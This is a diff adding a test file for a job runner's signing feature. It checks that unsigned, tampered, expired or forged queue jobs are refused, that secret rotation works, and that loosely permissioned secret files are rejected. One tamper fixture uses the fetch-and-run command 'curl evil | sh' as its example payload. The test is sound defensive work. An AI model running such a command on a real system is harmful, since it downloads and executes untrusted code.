@@ -1,0 +1,104 @@
+/** Signed jobs: an agent with a secret never runs a job that is unsigned, wrongly signed or expired. */
+import { chmodSync, existsSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { canonicalJson, signatureProblem, signJob, PAYLOAD_VERSION, type TaskJobData } from '@sweep-runner/shared';
+import { Queue } from 'bullmq';
+import { useAgents } from './helpers/agents.js';
+import { coord, waitFor } from './helpers/cli.js';
+import { useRedis } from './helpers/redis-server.js';
+import { useTempDirs } from './helpers/temp-dir.js';
+
+const redis = useRedis();
+const startAgent = useAgents();
+const tempDir = useTempDirs();
+
+const SECRET = 'a-secret-of-at-least-16-chars-0001';
+const OLD_SECRET = 'the-previous-secret-still-valid-02';
+
+function job(marker: string): TaskJobData {
+  return {
+    v: PAYLOAD_VERSION,
+    sweepId: 'handmade',
+    taskId: 'handmade-task',
+    force: false,
+    task: {
+      name: 'X_1',
+      outputRoot: 'output',
+      output: 'output/X_1',
+      paramDir: true,
+      datetime: '20260101.000000',
+      params: { x: 1 },
+      commands: [{ name: 'run', script: `touch ${marker}` }],
+      settings: { gpus: 1, pool: 'default', priority: 0, retries: 0 },
+    },
+  };
+}
+
+describe('signing', () => {
+  it('signs over a canonical encoding and detects any change', () => {
+    expect(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }] })).toBe('{"a":[{"c":3,"d":2}],"b":1}');
+    const signed = signJob(job('/tmp/x'), SECRET);
+    expect(signatureProblem(signed, [SECRET])).toBeUndefined();
+    expect(signatureProblem(signed, ['another-secret-entirely-000'])).toBe('bad signature');
+    const tampered = { ...signed, task: { ...signed.task, commands: [{ name: 'run', script: 'curl evil | sh' }] } };
+    expect(signatureProblem(tampered, [SECRET])).toBe('bad signature');
+    expect(signatureProblem({ ...signed, task: { ...signed.task, settings: { ...signed.task.settings, gpus: 8 } } }, [SECRET])).toBe('bad signature');
+    expect(signatureProblem(signJob(job('/tmp/x'), SECRET, -1), [SECRET])).toBe('bad signature (expired)');
+    expect(signatureProblem(job('/tmp/x'), [SECRET])).toBe('bad signature (the job is not signed)');
+  });
+
+  it('never runs a job pushed into the queue by hand, and shows it as rejected', async () => {
+    const dir = tempDir();
+    const marker = join(dir, 'pwned');
+    const agent = await startAgent(redis().url, ['--gpus', '0', '--prefix', 'signed'], { workdir: join(dir, 'w'), env: { RUNNER_SECRET: SECRET } });
+    const queue = new Queue('tasks.default.1g', { connection: { port: redis().port }, prefix: 'signed' });
+    try {
+      const pushed = await queue.add('task', job(marker), { jobId: 'evil-1' });
+      await waitFor(async () => (await pushed.getState()) === 'failed', 10_000, 'the job to be refused');
+      const refused = await queue.getJob('evil-1');
+      expect(refused!.failedReason).toBe('rejected: bad signature (the job is not signed)');
+    } finally {
+      await queue.close();
+    }
+    expect(existsSync(marker)).toBe(false);
+    expect(agent.logs().some((entry) => entry.msg === 'refusing a job' && entry.job === 'evil-1')).toBe(true);
+  });
+
+  it('runs jobs signed with a current or previous secret; rejects other secrets and shows it', async () => {
+    const dir = tempDir();
+    const prefix = 'rotation';
+    const secretFile = join(dir, 'secrets');
+    writeFileSync(secretFile, `${SECRET}\n${OLD_SECRET}\n`);
+    chmodSync(secretFile, 0o600);
+    writeFileSync(join(dir, 'params.yaml'), 'template:\n  run: echo ran {x}\n---\nx: [1]\n');
+    writeFileSync(join(dir, 'other.yaml'), 'template:\n  run: echo ran {y}\n---\ny: [1]\n');
+    writeFileSync(join(dir, 'third.yaml'), 'template:\n  run: echo ran {z}\n---\nz: [1]\n');
+    await startAgent(redis().url, ['--gpus', '0', '--prefix', prefix, '--secret-file', secretFile], { workdir: join(dir, 'w') });
+    const cli = ['--redis', redis().url, '--prefix', prefix, '--json'];
+    const submit = async (file: string, secret: string) =>
+      (JSON.parse((await coord(['submit', file, ...cli], { cwd: dir, env: { RUNNER_SECRET: secret } })).stdout) as { sweep: string }).sweep;
+    const current = await submit('params.yaml', SECRET);
+    const previous = await submit('other.yaml', OLD_SECRET);
+    const forged = await submit('third.yaml', 'someone-elses-secret-000000000');
+    const state = async (sweep: string) =>
+      (JSON.parse((await coord(['status', sweep, ...cli])).stdout) as { tasks: Array<{ state: string; reason: string | null }> }).tasks[0]!;
+    await waitFor(async () => (await state(current)).state === 'succeeded' && (await state(previous)).state === 'succeeded' && (await state(forged)).state === 'failed', 20_000, 'all three');
+    expect((await state(forged)).reason).toBe('rejected: bad signature');
+    expect(existsSync(join(dir, 'w', 'output', 'Z_1'))).toBe(false);
+  });
+
+  it('refuses a secret file others can read, and an agent without a secret on a remote Redis', async () => {
+    const dir = tempDir();
+    const secretFile = join(dir, 'secret');
+    writeFileSync(secretFile, SECRET);
+    chmodSync(secretFile, 0o644);
+    const { runCli, AGENT } = await import('./helpers/cli.js');
+    const loose = await runCli(AGENT, ['--gpus', '0', '--secret-file', secretFile, '--redis', redis().url]);
+    expect(loose.code).toBe(2);
+    expect(loose.stderr).toContain(`chmod 600 ${secretFile}`);
+    const remote = await runCli(AGENT, ['--gpus', '0', '--redis', 'redis://10.255.255.1:6379']);
+    expect(remote.code).toBe(2);
+    expect(remote.stderr).toMatch(/not on this machine.*RUNNER_SECRET.*--insecure/);
+  });
+});
